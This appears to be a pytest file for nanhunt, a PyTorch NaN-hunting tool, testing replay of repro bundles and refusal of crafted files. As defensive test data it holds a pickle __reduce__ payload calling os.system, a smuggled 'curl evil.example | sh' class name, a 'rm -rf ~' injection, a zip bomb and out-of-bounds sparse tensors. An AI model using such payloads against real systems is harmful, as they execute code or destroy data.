"""Repro bundles: round trip, replay of standard layers and of the user's own class, and refusal of
crafted files (they never run code)."""

from __future__ import annotations

import os
import pickle
import subprocess
import sys

import pytest
import torch
from torch import nn

from nanhunt import Finding
from nanhunt._cli import main
from nanhunt._locate.bundle import BundleError, load, replay, save, save_from_top


def overflow_stack() -> nn.Module:
    """Linear overflows float32 (inf), LayerNorm turns it into nan (inf - inf)."""
    m = nn.Sequential(nn.Linear(4, 3), nn.LayerNorm(3, eps=1e-3), nn.Dropout(0.25))
    with torch.no_grad():
        m[0].weight.fill_(1e30)
    return m.eval()


def finding(**kw) -> Finding:
    base = dict(phase="forward", module="enc", module_type="Sequential", tensor="output", step=7, call=0,
                index=(0, 0), value=float("nan"), counts={"nan": 6, "+inf": 0, "-inf": 0}, shape=(2, 3),
                dtype="float32", cause="created")
    base.update(kw)
    return Finding(**base)


def save_bundle(path, module, args, kwargs=None, f=None):
    return save(path, module=module, module_name="enc", args=args, kwargs=kwargs or {},
                rng_state=torch.get_rng_state(), cuda_rng=None, finding=f or finding())


def test_round_trip_rebuilds_standard_layers_and_reproduces(tmp_path):
    m = overflow_stack()
    x = torch.full((2, 4), 1e10)
    assert torch.isnan(m(x)).all()
    path = save_bundle(tmp_path / "b.pt", m, (x,))
    data = torch.load(path, weights_only=True)  # plain containers only
    assert data["module_type"] == "Sequential" and data["finding"]["value"] == "nan"
    r = replay(path)
    assert r.reproduced, r.summary()
    assert r.summary().startswith("Reproduced: `enc` (Sequential) gives output[0, 0] = nan")
    rebuilt = r.module
    assert rebuilt is not m and isinstance(rebuilt[0], nn.Linear) and isinstance(rebuilt[1], nn.LayerNorm)
    assert rebuilt[0].in_features == 4 and rebuilt[1].eps == 1e-3 and rebuilt[2].p == 0.25
    assert not rebuilt.training
    assert torch.equal(rebuilt[0].weight, m[0].weight)


def test_replay_restores_the_rng_state_for_dropout(tmp_path):
    m = nn.Dropout(0.5).train()
    x = torch.ones(64)
    state = torch.get_rng_state()
    expected = m(x)
    path = save(tmp_path / "d.pt", module=m, module_name="drop", args=(x,), kwargs={}, rng_state=state,
                cuda_rng=None, finding=None)
    torch.manual_seed(123)
    after = torch.get_rng_state()
    r = replay(path)
    assert torch.equal(r.outputs, expected)
    assert torch.equal(torch.get_rng_state(), after)  # the caller's RNG is put back
    assert not r.reproduced and "Not reproduced" in r.summary()


class MyLog(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.scale = nn.Parameter(torch.zeros(3))

    def forward(self, x, *, shift=0.0):
        return torch.log(x * self.scale + shift)


def test_user_module_is_passed_in(tmp_path):
    m = MyLog()
    path = save_bundle(tmp_path / "u.pt", m, (torch.ones(2, 3),), {"shift": 0.0},
                       finding(module_type="MyLog", value=float("-inf")))
    with pytest.raises(BundleError, match=r"MyLog.*not a standard torch.nn layer.*module="):
        replay(path)
    fresh = MyLog()
    with torch.no_grad():
        fresh.scale.fill_(1.0)  # replaced by the saved state
    r = replay(path, module=fresh)
    assert r.reproduced and r.finding is not None and r.finding.value == float("-inf")
    with pytest.raises(BundleError, match="does not fit"):
        replay(path, module=nn.Linear(2, 2))


def test_unsupported_inputs_are_named(tmp_path):
    path = save_bundle(tmp_path / "o.pt", nn.Identity(), (object(),))
    with pytest.raises(BundleError, match="object"):
        replay(path)


class Evil:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


@pytest.mark.parametrize("how", ["pickle", "torch.save"])
def test_crafted_bundle_is_refused_and_runs_nothing(tmp_path, how):
    marker = tmp_path / "PWNED"
    path = tmp_path / "evil.pt"
    payload = {"format": "nanhunt.bundle/1", "tree": Evil(str(marker))}
    if how == "pickle":
        with open(path, "wb") as fh:
            pickle.dump(payload, fh)
    else:
        torch.save(payload, path)
    with pytest.raises(BundleError, match="refused.*weights_only=True"):
        load(path)
    with pytest.raises(BundleError):
        replay(path)
    p = subprocess.run([sys.executable, "-m", "nanhunt", "replay", str(path)], capture_output=True, text=True,
                       timeout=120)
    assert p.returncode == 2 and "refused" in p.stderr and "Traceback" not in p.stderr
    assert not marker.exists()


def test_not_a_bundle(tmp_path):
    path = tmp_path / "weights.pt"
    torch.save({"w": torch.ones(2)}, path)
    with pytest.raises(BundleError, match="not a nanhunt bundle"):
        load(path)
    (tmp_path / "text.pt").write_text("hello")
    with pytest.raises(BundleError):
        load(tmp_path / "text.pt")
    with pytest.raises(BundleError, match="no such"):
        load(tmp_path / "missing.pt")


def test_bundle_cannot_name_classes_outside_torch_nn(tmp_path):
    path = save_bundle(tmp_path / "b.pt", nn.Linear(2, 2), (torch.ones(2),))
    data = load(path)
    data["tree"]["module_path"] = "os"
    data["tree"]["module_type"] = "system"
    with pytest.raises(BundleError, match="not a standard torch.nn layer"):
        replay(data)
    data["tree"]["module_path"] = "__main__"  # a class of the training script: importing it runs its loop
    data["tree"]["module_type"] = "Attn"
    with pytest.raises(BundleError, match=r"--module your_script\.py:Attn\); the script is imported.*__name__ =="):
        replay(data)
    data["tree"]["module_path"] = "torch.nn.modules.linear"
    data["tree"]["module_type"] = "Linear.__init__.__globals__"
    with pytest.raises(BundleError, match="invalid class"):
        replay(data)


def test_cli_replay(tmp_path, capsys):
    path = save_bundle(tmp_path / "b.pt", overflow_stack(), (torch.full((2, 4), 1e10),))
    assert main(["replay", str(path)]) == 3  # the NaN/Inf came back: exit 3, as for any finding
    assert capsys.readouterr().out.startswith("Reproduced: `enc` (Sequential)")


def test_save_from_top_bundles_the_inner_call(tmp_path):
    from nanhunt._steplog import Top

    root = nn.Sequential(nn.Linear(4, 3), nn.LayerNorm(3), nn.Dropout(0.5)).train()
    with torch.no_grad():
        root[0].weight.fill_(1e30)
    names = {m: n for n, m in root.named_modules()}
    x = torch.full((2, 4), 1e10)
    top = Top(root, (x,), torch.get_rng_state(), None, (("cpu", False, torch.bfloat16),), True)
    top.kwargs = {}
    before = torch.get_rng_state()
    path = save_from_top(tmp_path / "ln.pt", top=top, names=names, ordinal=2,
                         finding=finding(module="1", module_type="LayerNorm"))
    assert torch.equal(torch.get_rng_state(), before)
    data = load(path)
    assert data["module_name"] == "1" and data["module_type"] == "LayerNorm"
    assert torch.isinf(data["args"][0]).all()  # the LayerNorm was fed the Linear's inf
    r = replay(path)
    assert r.reproduced and isinstance(r.module, nn.LayerNorm)


def _crafted_sparse(kind: str) -> torch.Tensor:
    """Sparse tensors whose indices point past their values or shape: built without the checks,
    as a crafted file holds them (weights_only=True loads them as they are)."""
    if kind == "csr":
        return torch.sparse_csr_tensor(torch.tensor([0, 1, 100]), torch.tensor([0, 5]),
                                       torch.tensor([1.0, float("inf")]), (2, 4), check_invariants=False)
    return torch.sparse_coo_tensor(torch.tensor([[0, 10**7]]), torch.tensor([1.0, float("nan")]), (4,),
                                   check_invariants=False)


@pytest.mark.filterwarnings("ignore:Sparse CSR tensor support is in beta state:UserWarning")
@pytest.mark.parametrize("kind", ["coo", "csr"])
def test_a_bundle_holding_a_crafted_sparse_tensor_is_refused(tmp_path, kind):
    """A bundle whose argument was a sparse tensor with indices past its shape loaded, and the
    replay read and wrote out of bounds: `nanhunt replay` died of a segfault. Every sparse
    tensor's invariants are checked as the file loads: refused, exit 2, nothing run."""
    path = save_bundle(tmp_path / "b.pt", nn.Linear(4, 3), (torch.ones(2, 4),))
    data = torch.load(path, weights_only=True)
    data["args"] = (_crafted_sparse(kind),)
    torch.save(data, path)
    with pytest.raises(BundleError, match="cannot be read"):
        load(path)
    p = subprocess.run([sys.executable, "-m", "nanhunt", "replay", str(path)], capture_output=True, text=True,
                       timeout=120)
    assert p.returncode == 2 and "cannot be read as a nanhunt bundle" in p.stderr, (p.returncode, p.stderr)


@pytest.mark.parametrize(("path", "name", "says"), [
    ("x; curl -s evil.example/p | sh #", "Block", "invalid class"),
    ("mymodels", "Block`rm -rf ~`", "invalid class"),
    ("code", "interact", "--module your_module:interact)"),
])
def test_a_bundles_names_never_make_a_command_to_run(tmp_path, path, name, says):
    """The error for a class outside torch.nn proposed a command line built from the file's own
    names, unquoted: `--module x; curl -s evil.example/p | sh #:Block`, or `--module code:interact`
    (which runs the standard library's interactive console). Names are Python names or refused; a
    module of the standard library or torch is never proposed."""
    saved = save_bundle(tmp_path / "b.pt", nn.Linear(2, 2), (torch.ones(2),))
    data = load(saved)
    data["tree"]["module_path"], data["tree"]["module_type"] = path, name
    with pytest.raises(BundleError) as ei:
        replay(data)
    msg = str(ei.value)
    assert says in msg and "--module code:" not in msg, msg
    assert says != "invalid class" or "command line" not in msg, msg


@pytest.mark.parametrize(("field", "value", "says"), [
    ("rng_state", torch.zeros(3, dtype=torch.uint8), "bundle.rng_state must be the CPU generator's state"),
    ("autocast", [("cpu", True, "bool")], "autocast runs in float16 or bfloat16"),
])
def test_a_bundle_field_the_replay_cannot_use_is_refused_when_read(tmp_path, field, value, says):
    """A 3-byte RNG state passed the bundle's checks and failed in the replay ("module raised",
    exit 1, not a refusal); an autocast dtype of bool made torch warn from nanhunt's own code."""
    path = save_bundle(tmp_path / "b.pt", nn.Linear(4, 3), (torch.ones(2, 4),))
    data = torch.load(path, weights_only=True)
    data[field] = value
    torch.save(data, path)
    with pytest.raises(BundleError, match=says):
        load(path)


@pytest.mark.parametrize(("child", "key", "value", "says"), [
    (False, "_parameters", {"extra": 1}, "bundle.tree.attrs._parameters is nn.Module's own state"),
    (False, "_buffers", 5, "bundle.tree.attrs._buffers is nn.Module's own state"),
    (True, "_modules", {"x": 3}, "bundle.tree.children.0.attrs._modules is nn.Module's own state"),
    (False, "to", 1, "bundle.tree.attrs.to is a method of nn.Module"),
    (True, "train", 1, "bundle.tree.children.0.attrs.train is a method of nn.Module"),
    # an activation function (saved by its torch.nn.functional name) in place of the module's forward:
    # the replay ran F.relu instead of the saved Linear and said "Not reproduced"
    (False, "forward", {"__nanhunt_fn__": "relu"}, "bundle.tree.attrs.forward is a method of nn.Module"),
    (True, "__call__", {"__nanhunt_fn__": "relu"}, "bundle.tree.children.0.attrs.__call__ is a method"),
], ids=["_parameters", "_buffers", "child._modules", "to", "child.train", "forward", "child.__call__"])
def test_a_saved_attribute_over_the_modules_own_state_is_refused_in_one_line(tmp_path, child, key, value, says):
    """A crafted tree whose attrs held `_parameters` ({'extra': 1}) was written into the rebuilt
    module's __dict__, and `nanhunt replay` died in m.to() with a traceback ("'int' object has no
    attribute 'to'", exit 1); an attribute over a method (`to`, `train`) likewise."""
    path = save_bundle(tmp_path / "b.pt", nn.Sequential(nn.Linear(4, 3)), (torch.ones(2, 4),))
    data = torch.load(path, weights_only=True)
    (data["tree"]["children"]["0"] if child else data["tree"])["attrs"][key] = value
    torch.save(data, path)
    with pytest.raises(BundleError, match=says):
        replay(path)
    p = subprocess.run([sys.executable, "-m", "nanhunt", "replay", str(path)], capture_output=True, text=True,
                       timeout=120)
    assert p.returncode == 2 and "Traceback" not in p.stderr and len(p.stderr.strip().splitlines()) == 1, p.stderr
    assert says in p.stderr, p.stderr


@pytest.mark.parametrize("bundle", [5, None, [1], 2.5])
def test_replay_of_something_not_a_bundle_says_what_it_takes(bundle):
    """``nanhunt.replay(5)``: a TypeError naming replay() and what it was given, not os.fspath's."""
    with pytest.raises(TypeError, match=r"nanhunt\.replay\(\) takes a bundle's path .*got "
                                        + type(bundle).__name__):
        replay(bundle)


@pytest.mark.parametrize("bundle", [123, None, object()])
def test_load_of_something_not_a_path_says_what_it_was_given_and_takes(bundle):
    """``bundle.load(123)`` raised os.fspath's bare "expected str, bytes or os.PathLike object, not int"."""
    with pytest.raises(TypeError, match=r"bundle\.load\(\) takes a bundle's path .*\(a str or os\.PathLike\), got "
                                        + type(bundle).__name__):
        load(bundle)


def test_a_bundle_input_viewing_a_tiny_storage_as_gigabytes_is_refused(tmp_path):
    """A 9 KB crafted bundle whose input is ``torch.zeros(1).expand(2**31, 4)``: the replay tried to
    allocate 32 GiB. Refused as it is read, naming the field; an honest broadcast input is not."""
    path = save_bundle(tmp_path / "b.pt", nn.Linear(4, 3), (torch.ones(2, 4).expand(5, 2, 4),))
    load(path)  # (a view reading its storage a few times over: fine)
    data = torch.load(path, weights_only=True)
    data["args"] = [torch.zeros(1).expand(2**31, 4)]
    torch.save(data, path)
    assert os.path.getsize(path) < 64 * 1024
    with pytest.raises(BundleError, match=r"bundle\.args\[0\] is a view of 8589934592 elements \(32 GiB\)"):
        replay(path)


def test_a_zip_bomb_bundle_is_refused_before_anything_is_loaded(tmp_path, monkeypatch, capsys):
    """A 1 MB bundle whose input record deflates to 1 GiB of zeros was loaded whole by `nanhunt
    replay` (audit refused the same file): refused by the same rule now, before torch.load."""
    import zipfile

    from nanhunt._locate import checkpoint

    monkeypatch.setattr(checkpoint, "MAX_FREE", 1 << 20, raising=False)  # the rule at 256 MiB, on a small file
    honest = save_bundle(tmp_path / "ok.pt", nn.Linear(4, 3), (torch.zeros(1 << 18, 4),))  # 4 MB, uncompressed
    load(honest)
    bomb = tmp_path / "bomb.pt"
    with zipfile.ZipFile(honest) as src, zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
    with pytest.raises(BundleError, match=r"inflate to [\d,]+ bytes from a [\d,]+-byte file .*nothing was loaded"):
        load(bomb)
    capsys.readouterr()
    assert main(["replay", str(bomb)]) == 2
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1 and "nothing was loaded" in err, err
